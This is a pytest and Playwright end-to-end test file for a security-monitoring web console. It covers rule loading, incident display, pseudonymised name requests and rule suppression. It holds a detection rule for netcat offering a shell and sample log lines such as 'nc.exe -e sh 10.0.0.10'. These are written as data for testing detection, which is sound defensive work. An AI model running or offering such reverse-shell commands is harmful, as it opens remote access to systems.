"""An analyst's visit to a city of their own: a rule dropped in, a line that fires it, why it did, and its tuning.

The tests are one visit, in this order, by keyboard.
"""

import os
import re
import signal
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.e2e.conftest import READY, Desk
from tests.e2e.test_console import part, tab_to, until, violations
from tests.web.test_rules import BROKEN, NETCAT, RULE, event

pytestmark = pytest.mark.timeout(300)

PASSWORD = "correct horse battery"
REASON = "Maintenance of pc-7 until the evening."


@dataclass(kw_only=True)
class Town:
    """A served installation: where it is, and the log that it follows."""

    url: str
    folder: Path
    log: Path

    def write(self, **more):
        with self.log.open("a") as file:
            file.write(event(**more))


def tocsin(*words):
    command = [Path(sys.executable).with_name("tocsin"), *words]
    subprocess.run([str(word) for word in command], check=True, capture_output=True, timeout=60)


@pytest.fixture(scope="module")
def town(tmp_path_factory) -> Iterator[Town]:
    """`tocsin init`, an account, a log, `tocsin serve`."""
    folder, secret = tmp_path_factory.mktemp("town"), tmp_path_factory.mktemp("secret") / "password"
    log = folder / "sysmon.json"
    secret.write_text(PASSWORD)
    log.write_text(event(Image=r"C:\Windows\notepad.exe", CommandLine="notepad"))
    tocsin("init", folder, "--name", "Test Town", "--lon", "24.94", "--lat", "60.17")
    for name in ("anna", "ben"):
        tocsin("account", "add", folder, name, "--role", "supervisor", "--password-file", secret)
    tocsin("add", "log", log, "--city", folder)
    plan = folder / "tocsin.yaml"
    plan.write_text(plan.read_text().replace("port: 8420", "port: 0").replace("enabled: true", "enabled: false"))
    command = [str(Path(sys.executable).with_name("tocsin")), "serve", str(folder)]
    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as child:
        said = next((found for line in child.stdout if (found := READY.search(line))), None)
        assert said is not None, "the city ended before it was ready"
        yield Town(url=said.group(1), folder=folder, log=log)
        child.send_signal(signal.SIGINT)
        assert child.wait(20) == 0, "the city stops in order"


@pytest.fixture(scope="module")
def desk(town, browser) -> Iterator[Desk]:
    page = browser.new_page(viewport={"width": 1366, "height": 768})
    desk = Desk(page=page, asked=[], complaints=[])
    page.on("console", lambda said: desk.complaints.append(said.text) if said.type == "error" else None)
    page.on("pageerror", lambda error: desk.complaints.append(str(error)))
    page.goto(town.url)
    yield desk
    page.close()


def state_of(desk):
    """How the rule stands, as its panel says."""
    return part(desk, "rule-state").get_attribute("data-state")


def picture(desk, name):
    """A screenshot, where somebody wants to look."""
    folder = os.environ.get("TOCSIN_PICTURES")
    if folder:
        desk.page.screenshot(path=str(Path(folder) / f"{name}.png"))


def sign_in(desk, name):
    """By keyboard, as everybody does."""
    desk.page.get_by_label("Account").fill(name)
    desk.page.get_by_label("Password").fill(PASSWORD)
    desk.page.keyboard.press("Enter")
    part(desk, "sign-in").wait_for(state="hidden", timeout=30_000)


def test_somebody_signs_in(desk):
    sign_in(desk, "anna")
    desk.complaints.clear()  # before signing in, the browser itself complains of the 401


def test_the_system_page_counts_the_rules(desk, town):
    desk.page.goto(f"{town.url}/#/system")
    part(desk, "rules-panel").wait_for()
    assert part(desk, "rules-refused").inner_text().startswith("0")


def test_a_folder_dropped_in_loads_and_says_which_file_does_not_and_exactly_why(desk, town):
    folder = town.folder / "rules" / "mine"
    folder.mkdir()
    (folder / "netcat.yml").write_text(RULE)
    (folder / "broken.yml").write_text(BROKEN)
    row = part(desk, "refused").locator("tbody tr")
    row.first.wait_for(timeout=30_000)
    assert row.all_inner_texts() == ["rules/mine/broken.yml:4\tmodifier nonsense\tUnknown modifier 'nonsense'."]
    tab_to(desk, "show-rules")
    desk.page.keyboard.press("Enter")
    part(desk, "rules-list").get_by_text("Netcat offers a shell").wait_for()
    picture(desk, "system")


def test_the_rules_of_the_system_page_are_accessible(desk):
    part(desk, "rules-list").get_by_role("button", name="Netcat offers a shell").press("Enter")
    part(desk, "rule-text").first.wait_for()
    picture(desk, "system-rule")
    assert violations(desk) == []
    assert desk.page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def test_a_line_that_it_matches_raises_an_incident(desk, town):
    desk.page.goto(f"{town.url}/#/watch")
    town.write()
    part(desk, "incident-row").first.wait_for(timeout=30_000)
    desk.page.keyboard.press("Enter")
    part(desk, "incident-page").wait_for()
    picture(desk, "incident")


def test_the_incident_says_how_far_the_attack_has_come(desk):
    part(desk, "attack").get_by_text("T0869 Standard Application Layer Protocol").wait_for()
    assert "command and control" in part(desk, "attack").inner_text().lower()


def test_enter_on_its_contribution_shows_the_rule_and_the_fields_that_matched(desk):
    bar = desk.page.locator(f"[data-testid=contribution][data-rule='{NETCAT}'] button").first
    bar.focus()
    desk.page.keyboard.press("Enter")
    panel = part(desk, "rule-panel")
    panel.get_by_text("Looks at process starts on Windows.").wait_for()
    assert part(desk, "matched").all_inner_texts()[0].endswith(r"C:\tools\nc.exe")
    marked = part(desk, "rule-text").locator("mark").all_inner_texts()
    assert marked[:4] == ["Image|endswith", r"'\nc.exe'", "CommandLine|contains", "' -e '"]
    assert panel.get_by_text("Network tests of our own staff", exact=True).is_visible()
    picture(desk, "rule")


def test_a_name_stays_a_token_and_asking_for_it_is_said_to_need_more(desk):
    assert re.search(r"CITY\\t:[0-9a-f]{20}", part(desk, "evidence").inner_text())
    assert "anna" not in part(desk, "evidence").inner_text()
    assert desk.page.get_by_text("Asking for a name needs a reason and an approver.").is_visible()
    part(desk, "ask-name").press("Enter")
    dialog = part(desk, "name-dialog")
    dialog.get_by_label("Reason").fill("This account opened a shell.")
    assert violations(desk) == []
    part(desk, "name-send").press("Enter")
    dialog.wait_for(state="hidden")
    desk.page.get_by_text("The name is asked for").wait_for()


def test_somebody_else_answers_with_names_of_their_own(town, browser, tmp_path):
    accounts = tmp_path / "accounts.txt"
    accounts.write_text("berta\nCITY\\anna\n")
    page = browser.new_page(viewport={"width": 1366, "height": 768})
    ben = Desk(page=page, asked=[], complaints=[])
    page.goto(town.url)
    sign_in(ben, "ben")
    page.goto(f"{town.url}/#/govern")
    page.get_by_text("This account opened a shell.").wait_for()
    assert violations(ben) == []
    part(ben, "name-requests").get_by_label("Approve, and compare").set_input_files(accounts)
    assert part(ben, "revealed").inner_text().replace("\n", " ").endswith("is CITY\\anna Forget")
    page.get_by_text("Nobody asks for a name.").wait_for()
    page.close()


def test_the_rule_is_accessible_and_fits(desk):
    assert violations(desk) == []
    assert desk.page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def test_no_rule_is_suppressed_without_a_reason(desk):
    part(desk, "tune").press("Enter")
    dialog = part(desk, "tune-dialog")
    dialog.get_by_label("any event: the whole rule").check()
    part(desk, "tune-send").press("Enter")
    dialog.get_by_text("Say why").wait_for()
    assert violations(desk) == []
    picture(desk, "tune")


def test_a_suppression_is_shown_with_reason_end_and_person(desk):
    dialog = part(desk, "tune-dialog")
    dialog.get_by_label("8 hours").check()
    dialog.get_by_label("Reason").fill(REASON)
    part(desk, "tune-send").press("Enter")
    until(lambda: state_of(desk) == "suppressed", 45)
    told = part(desk, "tunings").inner_text()
    assert REASON in told
    assert "anna" in told
    picture(desk, "suppressed")


def test_what_it_holds_back_is_counted(desk, town):
    town.write(CommandLine="nc.exe -e sh 10.0.0.10")

    def held():
        rules = desk.page.request.get(f"{town.url}/api/rules/{NETCAT}").json()
        return rules["rule"].get("suppressed", 0)

    assert until(held, 45) == 1


def test_u_takes_it_back(desk):
    desk.page.keyboard.press("u")
    until(lambda: state_of(desk) == "in force", 45)


def test_an_exception_is_made_of_what_was_found(desk):
    part(desk, "tune").press("Enter")
    dialog = part(desk, "tune-dialog")
    dialog.get_by_label("CommandLine = nc.exe -e cmd 10.0.0.9").check()
    dialog.get_by_label("Reason").fill(REASON)
    picture(desk, "except")
    part(desk, "tune-send").press("Enter")
    until(lambda: state_of(desk) == "in force with exceptions", 45)
    part(desk, "lift").press("Enter")
    until(lambda: state_of(desk) == "in force", 45)


def test_escape_leaves_the_dialog_and_nothing_is_done(desk):
    part(desk, "tune").press("Enter")
    part(desk, "tune-send").focus()
    desk.page.keyboard.press("Escape")
    part(desk, "tune-dialog").wait_for(state="hidden")
    assert part(desk, "incident-page").is_visible()
    assert state_of(desk) == "in force"


@pytest.mark.parametrize(("width", "height"), [(1366, 768), (3840, 2160)])
def test_it_fits_the_screens_of_a_control_room(desk, width, height):
    desk.page.set_viewport_size({"width": width, "height": height})
    part(desk, "rule-panel").scroll_into_view_if_needed()
    assert desk.page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    inner = part(desk, "incident-page").locator(".scroll")
    assert inner.evaluate("(box) => box.scrollWidth <= box.clientWidth")
    picture(desk, f"rule-{width}")


def test_there_was_nothing_to_complain_of(desk):
    assert [text for text in desk.complaints if "favicon" not in text] == []
